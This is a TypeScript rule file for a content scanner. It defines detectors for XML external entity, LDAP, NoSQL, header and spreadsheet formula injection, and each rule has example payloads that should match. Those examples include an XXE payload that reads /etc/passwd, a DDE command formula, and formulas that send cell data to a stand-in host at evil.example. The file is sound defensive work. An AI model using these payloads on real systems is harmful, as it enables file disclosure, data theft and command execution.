import type { ContentRule } from "../finding.ts";

const OFF_IN_CODE = { code: "off" } as const;

/** Documents, queries, headers and cells that do more than carry data. */
export const DATA_RULES: readonly ContentRule[] = [
  { id: "xml.entity", levels: { code: "flag" }, title: "An XML entity from elsewhere", level: "block", source: "CWE-611", role: "value", matches: ["<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">"], misses: ["<!DOCTYPE html><p>x</p>", "<!ENTITY nbsp \"&#160;\">"] },
  { id: "xml.entity_bomb", levels: { code: "flag" }, title: "Entities that blow up a document", level: "block", source: "CWE-776", role: "value", matches: ["abcdefgh".split("").map((name) => `<!ENTITY ${name} "&x;&x;">`).join("")], misses: ["<!ENTITY a \"b\">"] },
  { id: "xml.doctype", levels: OFF_IN_CODE, title: "A document type from elsewhere", level: "flag", source: "CWE-611", role: "value", matches: ["<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">"], misses: ["<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"x\">"] },
  { id: "xml.include", levels: OFF_IN_CODE, title: "A document that pulls in others", level: "flag", source: "CWE-611", role: "value", matches: ["<xi:include href=\"file:///etc/passwd\"/>"], misses: ["<include/>"] },
  { id: "ldap.breakout", title: "A value closes its LDAP filter and goes on", level: "block", source: "CWE-90", role: "value", levels: OFF_IN_CODE, matches: ["*)(uid=*))(|(uid=*", "admin)(&)", "x))(|(cn=*"], misses: ["(a)(b)", "(&(uid=x)(cn=y))", "a :) (b = c)"] },
  { id: "nosql.operator", title: "A query operator where a value was wanted", level: "flag", source: "CWE-943", role: "value", levels: OFF_IN_CODE, matches: ["{\"$ne\": null}", "user[$ne]=1", "$where", "{ $gt: '' }"], misses: ["costs $in total", "$5", "{\"price\": \"$ne\"}"] },
  { id: "nosql.code", title: "A query that runs JavaScript", level: "block", source: "CWE-943", role: "value", matches: ["{\"$where\": \"this.password == 'x'\"}", "' || this.password.match(/.*/)//"], misses: ["{\"$where\": 1}", "this.password"] },
  { id: "header.injection", title: "An encoded line break that goes on as a header", level: "block", source: "CWE-93, CWE-113", role: "value", levels: OFF_IN_CODE, matches: ["x%0d%0aSet-Cookie: a=b", "x%0aBcc:a@example.com"], misses: ["a%0d%0ab", "50%0a: x"] },
  { id: "header.line", title: "A line break that goes on as a header", level: "flag", source: "CWE-93", role: "value", levels: OFF_IN_CODE, matches: ["a@example.com\r\nBcc: b@example.com"], misses: ["Dear all,\nTo: be or not to be", "a\nb: c"] },
  { id: "formula.command", title: "A cell that starts a program", level: "block", source: "CWE-1236", role: "value", levels: OFF_IN_CODE, matches: ["=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"], misses: ["=SUM(A1:A3)", "-5", "+1 (agree)"] },
  { id: "formula.remote", title: "A cell that fetches or leads elsewhere", level: "flag", source: "CWE-1236", role: "value", levels: OFF_IN_CODE, matches: ["=HYPERLINK(\"http://evil.example?x=\"&A1,\"x\")", "=IMPORTXML(CONCAT(\"http://evil.example?v=\",A1),\"//a\")"], misses: ["=A1+B1", "Hyperlink (see below)"] },
];
